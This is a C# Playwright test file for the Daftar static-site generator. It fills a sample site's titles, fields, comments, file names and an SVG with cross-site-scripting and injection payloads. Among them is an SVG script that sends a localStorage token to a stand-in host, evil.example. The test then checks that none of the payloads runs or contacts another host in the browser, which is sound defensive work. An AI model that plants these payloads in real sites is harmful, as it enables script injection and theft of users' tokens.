using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Daftar.Cli;
using Daftar.Tests.Markup;
using Microsoft.Playwright;

namespace Daftar.BrowserTests;

/// <summary>
/// A site whose every text is an attack: bodies, fields, tags, names of authors and of the site, drawings, addresses. In the browser nothing of it
/// runs, asks another host, or reads what the browser keeps for the site.
/// </summary>
public sealed partial class HostileSiteTests : IAsyncLifetime
{
    private const string Attack = "\"'></title></script><script>alert(1)</script><img src=x onerror=alert(2)>{{ 7*7 }}${alert(3)}";
    private const string Drawing =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 9\" onload=\"alert(4)\"><script>fetch('https://evil.example/'+localStorage.getItem('token'))</script>"
        + "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(5)\"/></body></foreignObject><image href=\"https://evil.example/x.png\"/><a xlink:href=\"javascript:alert(6)\"><path d=\"M0 0h9v9\"/></a></svg>";

    private const int FirstName = 5001;

    private static readonly string[] Names =
    [
        "a\" onerror=alert(7) b", "a' onerror='alert(8)", "<img src=x onerror=alert(9)>", "%22%3E%3Cscript%3Ealert(10)%3C%2Fscript%3E", "a#x", "a?x", "\u202Egnp.exe",
        "javascript:alert(11)", "data:text,html", "a&lt;script&gt;", "{{ 7*7 }}", "a)b(c", "a%2e%2e%2fb", "a;b,c 2x",
    ];

    private readonly string _root = Directory.CreateTempSubdirectory("daftar-hostile-").FullName;

    public async Task InitializeAsync()
    {
        Repository.Copy(Path.Combine(Repository.SampleSite, "input", "taxonomies"), Path.Combine(_root, "input", "taxonomies"));
        Repository.Copy(Path.Combine(Repository.SampleSite, "input", "pages"), Path.Combine(_root, "input", "pages"));
        Repository.Copy(Path.Combine(Repository.Root, "theme"), Path.Combine(_root, "theme"));
        var settings = JsonNode.Parse(File.ReadAllText(Path.Combine(Repository.SampleSite, "statiq.json")))!.AsObject();
        settings["SiteTitle"] = new JsonObject { ["en"] = Attack, ["fa"] = Attack };
        settings["SiteDescription"] = new JsonObject { ["en"] = Attack, ["fa"] = Attack };
        settings.Remove("Admin");
        settings["Comments"] = new JsonObject { ["Form"] = "https://forms.example/send", ["Mail"] = "desk@example.org" };
        File.WriteAllText(Path.Combine(_root, "statiq.json"), settings.ToJsonString());
        Directory.CreateDirectory(Path.Combine(_root, "input", "images"));
        File.WriteAllText(Path.Combine(_root, "input", "images", "chart.svg"), Drawing);
        // A few vectors an article: what one of them opens must not swallow the next, so that each stands in its own paragraph.
        var number = 0;
        foreach (var part in XssVectors.All().Select(XssVectors.Decode).Where(vector => !vector.Contains('\0')).Chunk(6))
        {
            number++;
            foreach (var language in new[] { "en", "fa" })
            {
                var file = Path.Combine(_root, "input", "articles", language, FormattableString.Invariant($"a{number}.md"));
                Directory.CreateDirectory(Path.GetDirectoryName(file)!);
                var code = number + (language == "fa" ? 1000 : 0);
                File.WriteAllText(file, FormattableString.Invariant(
                    $"---\ntitle: '{number} {Quoted(Attack)}'\nlead: '{Quoted(Attack)}'\ntype: report\nnews_code: {code}\npublish_date: 2025-01-02\nauthor: ['{Quoted(Attack)}']\nsource: '{Quoted(Attack)}'\ntags: ['{Quoted(Attack)}']\n---\n\n{string.Join("\n\n", part)}\n\n![{Attack}](/images/chart.svg)\n"));
                var comment = Path.Combine(_root, "input", "comments", code.ToString(System.Globalization.CultureInfo.InvariantCulture), "2025-01-03-1.yml");
                Directory.CreateDirectory(Path.GetDirectoryName(comment)!);
                var words = WithoutAddresses().Replace(Daftar.Sources.ForbiddenCharacters.Remove(string.Join("\n\n", part) + "\n\u202E" + Attack), "");
                File.WriteAllText(comment, $"name: '{Quoted(Attack)}'\ndate: 2025-01-03\ntext: {System.Text.Json.JsonSerializer.Serialize(words)}\n");
            }
        }
        WriteNames();
        await BuildAsync();
    }

    /// <summary>Pictures and attachments whose names are attacks, each with an article that shows and links them.</summary>
    private void WriteNames()
    {
        if (OperatingSystem.IsWindows()) return;
        Directory.CreateDirectory(Path.Combine(_root, "input", "files"));
        for (var index = 0; index < Names.Length; index++)
        {
            var (name, escaped) = (Names[index], Uri.EscapeDataString(Names[index]));
            File.WriteAllBytes(Path.Combine(_root, "input", "images", name + ".png"), Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="));
            File.WriteAllText(Path.Combine(_root, "input", "files", name + ".pdf"), "%PDF-1.4\n%%EOF");
            File.WriteAllText(Path.Combine(_root, "input", "articles", "en", FormattableString.Invariant($"name{index}.md")), FormattableString.Invariant(
                $"---\ntitle: Name {index}\ntype: report\nnews_code: {FirstName + index}\npublish_date: 2025-01-02\nimage: {System.Text.Json.JsonSerializer.Serialize($"images/{name}.png")}\nimage_alt: x\n---\n\nWords.\n\n![x](/images/{escaped}.png)\n\n[file](/files/{escaped}.pdf)\n"));
        }
    }

    public Task DisposeAsync()
    {
        Directory.Delete(_root, recursive: true);
        return Task.CompletedTask;
    }

    [Fact]
    public async Task Nothing_runs_asks_another_host_or_reads_the_token()
    {
        await using var server = await StaticServer.StartAsync(Path.Combine(_root, "output"), "/repo");
        using var playwright = await Playwright.CreateAsync();
        await using var chromium = await Chromium.StartAsync(playwright);
        await using var context = await chromium.Browser.NewContextAsync();
        var (found, noted) = (new List<string>(), new List<string>());
        await context.RouteAsync(url => !url.StartsWith(server.Origin, StringComparison.Ordinal), route =>
        {
            lock (found) found.Add($"asked {route.Request.Url}");
            return route.AbortAsync();
        });
        await context.ExposeFunctionAsync("hostileNote", (string what) => { lock (noted) noted.Add(what); });
        await context.AddInitScriptAsync(
            """
            localStorage.setItem('token', 'secret');
            const read = Storage.prototype.getItem;
            Storage.prototype.getItem = function (key) { if (key === 'token') hostileNote('read the token'); return read.call(this, key); };
            document.addEventListener('securitypolicyviolation', event => hostileNote('violation of ' + event.violatedDirective + ' by ' + event.blockedURI));
            """);
        var page = await context.NewPageAsync();
        page.Dialog += (_, dialog) =>
        {
            lock (found) found.Add($"dialog {dialog.Message} on {page.Url}");
            _ = dialog.DismissAsync();
        };
        var pages = new BuiltSite(Path.Combine(_root, "output"), "/repo").Pages.Where(path => path.StartsWith("en/", StringComparison.Ordinal) || path.StartsWith("fa/", StringComparison.Ordinal)).ToList();
        Assert.True(pages.Count > 40, $"{pages.Count} pages");
        var opened = 0;
        var named = Enumerable.Range(FirstName, Names.Length).Select(code => FormattableString.Invariant($"en/report/{code}/index.html")).ToList();
        if (!OperatingSystem.IsWindows()) Assert.All(named, path => Assert.Contains(path, pages));
        foreach (var path in pages.Where(path => ArticlePage().IsMatch(path)).Take(70).Concat(pages.Intersect(named)).Concat(["en/index.html", "fa/index.html", "en/search/index.html"]))
        {
            await page.GotoAsync($"{server.Origin}/repo/{path}", new() { WaitUntil = WaitUntilState.Load });
            opened++;
        }
        Assert.True(opened > 20, $"{opened} pages opened");
        Assert.True(pages.Count(path => File.ReadAllText(Path.Combine(_root, "output", path)).Contains("id=\"c-2025-01-03-1\"", StringComparison.Ordinal)) > 20);
        var drawing = await page.GotoAsync($"{server.Origin}/repo/images/chart.svg");
        Assert.Equal(200, drawing!.Status);
        await page.WaitForTimeoutAsync(200);
        lock (noted) found.AddRange(noted);
        Assert.Empty(found);
    }

    private static string Quoted(string text) => text.Replace("'", "''", StringComparison.Ordinal);

    /// <summary>Builds what is let through: an article that is refused as a whole is no danger to anybody.</summary>
    private async Task BuildAsync()
    {
        var errors = "";
        for (var round = 0; round < 6; round++)
        {
            var said = new StringWriter();
            var exit = await DaftarCommandLine.RunAsync(
                ["build", "--root", _root, "--base-url", "https://example.org/repo/", "--no-cache"], new Terminal(new StringWriter(), said, TimeProvider.System));
            if (exit == 0) return;
            errors = said.ToString();
            foreach (Match refused in Refused().Matches(errors)) File.Delete(Path.Combine(_root, refused.Groups[1].Value));
        }
        throw new InvalidOperationException($"The site does not build:\n{errors}");
    }

    [GeneratedRegex(@"^(input/(?:articles|comments)/[^():]+\.(?:md|yml))[^:]*: error", RegexOptions.Multiline)]
    private static partial Regex Refused();

    [GeneratedRegex("@")]
    private static partial Regex WithoutAddresses();

    [GeneratedRegex(@"/[0-9]+/index\.html$")]
    private static partial Regex ArticlePage();
}
